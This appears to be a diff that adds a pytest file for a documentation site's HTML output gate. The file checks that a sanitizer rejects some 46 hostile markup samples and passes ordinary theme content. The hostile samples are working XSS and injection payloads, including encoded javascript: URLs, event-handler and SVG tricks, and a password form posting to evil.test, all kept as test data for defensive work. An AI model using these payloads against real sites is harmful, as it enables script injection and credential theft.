@@ -1,0 +1,125 @@
+"""The output gate reads published HTML as a browser does: every way of getting code, another site or
+another document into a page is refused, and the theme's own markup and ordinary content pass."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import material
+
+import pytest
+from mkdocs_redirects.plugin import HTML_TEMPLATE
+from helpcenter.gate_policy import CONTENT_POLICY, build_policy
+from helpcenter.output_gate import check_html, check_search_records, locate, script_hash
+
+from tests.conftest import ROOT
+
+POLICY = build_policy([ROOT / "overrides", Path(material.__file__).parent / "templates"], [HTML_TEMPLATE])
+
+HOSTILE = {
+    "script": "<script>alert(1)</script>",
+    "script, upper case": "<SCRIPT>alert(1)</SCRIPT>",
+    "script from another site": '<script src="https://evil.test/x.js"></script>',
+    "script from a data URL": '<script src="data:text/javascript,alert(1)"></script>',
+    "script with a JSON type but code": '<script type="application/json">alert(1)</script>',
+    "second config block": '<script id="__config" type="application/json">{}</script><script id="__config" type="application/json">{}</script>',
+    "JSON-LD that is not JSON": '<script type="application/ld+json">{"a": </script>',
+    "event handler": '<p onclick="alert(1)">x</p>',
+    "event handler, no quotes": "<img src=x onerror=alert(1) alt=x>",
+    "event handler on SVG": '<svg><path d="M0" onload="alert(1)"/></svg>',
+    "event handler after slash": '<img/onerror=alert(1) src=x alt=x>',
+    "multi-line tag": '<a\nhref="#"\nonmouseover="alert(1)">x</a>',
+    "javascript URL": '<a href="javascript:alert(1)">x</a>',
+    "javascript URL, entity-encoded": '<a href="&#106;avascript:alert(1)">x</a>',
+    "javascript URL, hex entities": '<a href="&#x6A;&#x61;vascript&#x3A;alert(1)">x</a>',
+    "javascript URL, tab inside": '<a href="java\tscript:alert(1)">x</a>',
+    "javascript URL, leading blanks": '<a href=" \x01javascript:alert(1)">x</a>',
+    "vbscript URL": '<a href="vbscript:msgbox(1)">x</a>',
+    "data URL link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    "base": '<base href="https://evil.test/">',
+    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.test">',
+    "meta set-cookie": '<meta http-equiv="set-cookie" content="a=b">',
+    "form": '<form action="https://evil.test"><input type="password" name="p"></form>',
+    "form copying the theme's": '<form name="search"></form><form name="search"></form><form name="search"></form>',
+    "password input": '<input type="password">',
+    "style element": "<style>body{display:none}</style>",
+    "style attribute": '<p style="background:url(https://evil.test)">x</p>',
+    "style on a table cell beyond alignment": '<table><tr><td style="text-align: left; background:url(x)">x</td></tr></table>',
+    "iframe": '<iframe src="https://evil.test"></iframe>',
+    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    "object": '<object data="x.swf"></object>',
+    "embed": '<embed src="x.swf">',
+    "SVG foreignObject": "<svg><foreignObject><p>x</p></foreignObject></svg>",
+    "SVG animate href": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>',
+    "SVG use from another site": '<svg><use href="https://evil.test/x.svg#a"/></svg>',
+    "SVG script": "<svg><script>alert(1)</script></svg>",
+    "template": "<template><script>alert(1)</script></template>",
+    "noscript": "<noscript><p>x</p></noscript>",
+    "image from another site": '<img src="https://cdn.test/emoji.png" alt="x">',
+    "image srcset from another site": '<img src="a.png" srcset="a.png 1x, https://evil.test/b.png 2x" alt="x">',
+    "protocol-relative image": '<img src="//evil.test/x.png" alt="x">',
+    "button formaction": '<button formaction="javascript:alert(1)">x</button>',
+    "unknown element": "<marquee>x</marquee>",
+    "link to a stylesheet elsewhere": '<link rel="stylesheet" href="https://evil.test/x.css">',
+    "link import": '<link rel="import" href="x.html">',
+    "comment-ended script": "<!-- --><script>alert(1)</script>",
+}
+
+INERT = {
+    "paragraph and emphasis": "<p>계정 <em>비밀번호</em> <strong>확인</strong> <code>&lt;script&gt;</code></p>",
+    "escaped markup in text": "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
+    "link": '<a href="../support/email/">이메일</a> <a href="https://www.coupangplay.com">x</a> <a href="mailto:a@b.test">m</a>',
+    "table": "<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>",
+    "FAQ question": '<details class="question" id="q-a"><summary>질문</summary><p>답</p></details>',
+    "tabbed": '<div class="tabbed-set" data-tabs="1:2"><input checked="checked" id="__tabbed_1_1" name="__tabbed_1" type="radio"><label for="__tabbed_1_1">A</label></div>',
+    "emoji SVG": '<span class="twemoji"><svg viewBox="0 0 24 24" xmlns="http://www.w3.org/2000/svg"><path d="M1 1h2"/></svg></span>',
+    "next steps block": '<aside class="hc-next-steps" aria-labelledby="x"><h2 id="x">더 도움이 필요하세요?</h2><ul class="hc-related"><li><a href="../faq/">FAQ</a></li></ul></aside>',
+    "admonition": '<div class="admonition note"><p class="admonition-title">참고</p><p>x</p></div>',
+    "keys": '<span class="keys"><kbd class="key-control">Ctrl</kbd></span>',
+    "image": '<img alt="화면" src="../assets/logo.svg">',
+    "JSON-LD": '<script type="application/ld+json">{"@type": "FAQPage"}</script>',
+    "aligned table column": '<table><tr><th style="text-align: center;">a</th><td style="text-align: right;">1</td></tr></table>',
+    "heading permalink": '<h2 id="계정">계정<a class="headerlink" href="#계정" title="Permanent link">&para;</a></h2>',
+    "definition list": "<dl><dt>용어</dt><dd>뜻</dd></dl>",
+}
+
+
+@pytest.mark.parametrize("case", list(HOSTILE))
+def test_hostile_markup_is_found(case):
+    assert check_html(HOSTILE[case], POLICY), case
+
+
+@pytest.mark.parametrize("case", list(INERT))
+def test_ordinary_content_and_theme_blocks_pass(case):
+    assert check_html(INERT[case], POLICY) == []
+
+
+def test_only_the_theme_s_known_inline_scripts_run():
+    known = "var a=1"
+    assert check_html(f"<script>{known}</script>", POLICY, frozenset({script_hash(known)})) == []
+    assert check_html(f"<script>{known};alert(1)</script>", POLICY, frozenset({script_hash(known)}))
+
+
+def test_meta_refresh_only_in_redirect_pages():
+    refresh = '<meta http-equiv="refresh" content="0; url=../support/methods/">'
+    assert check_html(refresh, POLICY)
+    assert check_html(refresh, POLICY, redirect=True) == []
+    assert check_html('<meta http-equiv="refresh" content="0; url=javascript:alert(1)">', POLICY, redirect=True)
+
+
+def test_search_records_with_live_markup_are_found():
+    records = [{"location": "faq/#q", "title": "<img src=x onerror=alert(1)>", "text": "<p>ok</p>"},
+               {"url": "/x/", "title": "ok", "content": "<p>&lt;b&gt; <code>x</code></p>", "lang": "ko", "kind": "page"}]
+    found = check_search_records(records)
+    assert [url for url, _ in found] == ["faq/#q"]
+
+
+def test_a_finding_names_the_source_line():
+    finding = check_html('<p onclick="x">', POLICY)[0]
+    assert locate(finding.needle, {"docs/ko/a.md": "# A\n\ntext\n{ onclick=\"x\" }\n"}) == ("docs/ko/a.md", 4)
+
+
+def test_the_real_site_passes(site):
+    # Every page of the real build passed the gate during the build; the gate fails a strict build.
+    assert (site / "_headers").is_file()
+    assert 'http-equiv="Content-Security-Policy"' in (site / "index.html").read_text(encoding="utf-8")
